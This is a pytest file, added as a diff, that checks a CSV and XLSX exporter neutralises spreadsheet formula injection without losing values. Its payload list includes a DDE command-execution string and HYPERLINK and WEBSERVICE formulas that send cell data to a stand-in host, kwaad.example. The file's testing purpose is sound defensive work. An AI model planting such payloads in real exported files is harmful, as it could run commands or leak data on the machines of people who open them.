@@ -1,0 +1,93 @@
+"""No cell is calculated by a spreadsheet, and no value is lost, in CSV nor in XLSX."""
+
+from datetime import date
+from decimal import Decimal
+from io import BytesIO
+from itertools import product
+
+import pytest
+from openpyxl import load_workbook
+
+from regions.sheets.columns import as_cell
+from regions.sheets.csv_file import PROTECTION, csv_file, is_calculated
+from regions.sheets.xlsx_file import CUT, MOST_CHARACTERS, xlsx_file
+from tests.regions.sheets.reading import csv_rows, xlsx_rows
+
+BEFORE = [
+    *("", " ", "\t", "\r", "\n", "\r\n", "\xa0", "\u3000", "\ufeff", "\u200b", "\u202e", "\x00"),
+    *("'", '"', ";", ",", '";'),
+]
+SIGNS = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "﹣", "⁼", "_x003D_", "<f>", ""]
+FORMULAS = [
+    "1+1",
+    "cmd|' /C calc'!A0",
+    'HYPERLINK("https://kwaad.example/?a="&A1;"klik")',
+    "3,5",
+    "WEBSERVICE(\u2018https://kwaad.example\u2019)",
+    "een\r\n=twee",
+    "]]>&amp;<b>\x1b[0m",
+]
+HOSTILE = ["".join(parts) for parts in product(BEFORE, SIGNS, FORMULAS)]
+
+
+def in_columns(values):
+    return [[as_cell(value), "laatste"] for value in values]
+
+
+def xlsx(rows):
+    return xlsx_file(["waarde", "einde"], rows, [("Wat", "=1+1")], "Titel", date(2026, 11, 29))
+
+
+def test_there_are_a_thousand_hostile_values_of_which_many_would_be_calculated():
+    assert len(set(HOSTILE)) > 1000
+    assert sum(is_calculated(as_cell(value)) for value in HOSTILE) > 500
+
+
+def test_csv_protects_each_value_and_loses_none():
+    rows = in_columns(HOSTILE)
+    _, *read = csv_rows(csv_file(["waarde", "einde"], rows))
+
+    assert [is_calculated(cell) for row in read for cell in row] == [False] * len(rows) * 2
+    unprotected = [
+        [cell[1:] if is_calculated(value) else cell for cell, value in zip(*pair, strict=True)]
+        for pair in zip(read, rows, strict=True)
+    ]
+    assert unprotected == rows
+
+
+def test_xlsx_holds_each_value_as_text_and_loses_none():
+    rows = in_columns(HOSTILE)
+    content = xlsx(rows)
+
+    for sheet in load_workbook(BytesIO(content)):
+        assert {cell.data_type for row in sheet.rows for cell in row} == {"s"}
+        assert not any(cell.hyperlink for row in sheet.rows for cell in row)
+    assert xlsx_rows(content)[1:] == rows
+
+
+@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "＝", "＠", "﹢", "\t", "\n=", " \u200b="])
+def test_what_a_spreadsheet_calculates_is_recognised(sign):
+    assert is_calculated(f"{sign}1")
+    assert not is_calculated(f"{PROTECTION}{sign}1")
+
+
+def test_a_negative_number_stays_a_number():
+    row = [Decimal("-3.5"), -3, date(2024, 2, 29)]
+
+    assert csv_rows(csv_file(["a", "b", "c"], [row]))[1] == ["-3,5", "-3", "2024-02-29"]
+    sheet = load_workbook(
+        BytesIO(xlsx_file(["a", "b", "c"], [row], [], "Titel", date(2026, 1, 1)))
+    )["Gegevens"]
+    assert [cell.data_type for cell in sheet[2]] == ["n", "n", "d"]
+    assert [cell.value for cell in sheet[2]][:2] == [-3.5, -3]
+    assert sheet["C2"].value.date() == date(2024, 2, 29)
+
+
+def test_a_text_too_long_for_excel_is_cut_and_says_so():
+    fits, too_long = "a" * MOST_CHARACTERS, "é😀" * MOST_CHARACTERS
+    _, first, second = xlsx_rows(xlsx(in_columns([fits, too_long])))
+
+    assert first[0] == fits
+    assert second[0].endswith(CUT)
+    assert len(second[0].encode("utf-16-le")) // 2 <= MOST_CHARACTERS
+    assert csv_rows(csv_file(["a", "b"], in_columns([too_long])))[1][0] == too_long
